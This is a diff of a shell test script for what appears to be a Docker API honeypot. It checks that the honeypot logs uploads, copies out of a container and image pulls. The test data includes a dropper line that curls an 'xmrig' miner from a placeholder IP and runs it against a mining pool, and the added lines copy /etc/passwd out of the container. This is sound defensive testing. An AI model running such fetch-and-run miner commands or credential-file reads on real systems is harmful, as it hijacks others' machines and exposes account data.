@@ -44,6 +44,9 @@ dk logs web | has 'GET / HTTP/1.1' || fail "logs"
 dk inspect -f '{{.State.Running}} {{.Config.Image}}' web | has -x 'true nginx:1.23' || fail "inspect"
 printf '#!/bin/sh\ncurl -s http://203.0.113.9/xmrig -o /tmp/x && /tmp/x -o pool.example.net:3333\n' >"$W/m.sh"
 dk cp "$W/m.sh" web:/tmp/ || fail "cp"
+mkdir -p "$W/out"
+dk cp web:/etc/passwd "$W/out/" || fail "cp from the container"
+head -1 "$W/out/passwd" | has '^root:x:0:0:' || fail "copied passwd: $(cat "$W/out/passwd")"
 hp_stop
 
 [ "$(hp_count '.eventid=="docker.image.create" and (.request.image|test("^(docker.io/library/)?alpine:3.20$"))')" = 1 ] || fail "pull event"
@@ -57,4 +60,5 @@ hp_stop
 sum=$(sha256sum "$W/m.sh" | cut -d' ' -f1)
 [ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/tmp/" and .request.files[0].name=="m.sh" and .request.files[0].sha256=="'"$sum"'" and ((.request.files[0].head // "")|test("xmrig"))')" = 1 ] \
   || fail "cp upload event"
+[ "$(hp_count '.eventid=="docker.container.archive.get" and .request.target=="/etc/passwd"')" = 1 ] || fail "cp out event"
 echo "ok: docker $(hp_count '.service=="docker" and (.eventid|startswith("session.")|not)') steps logged"
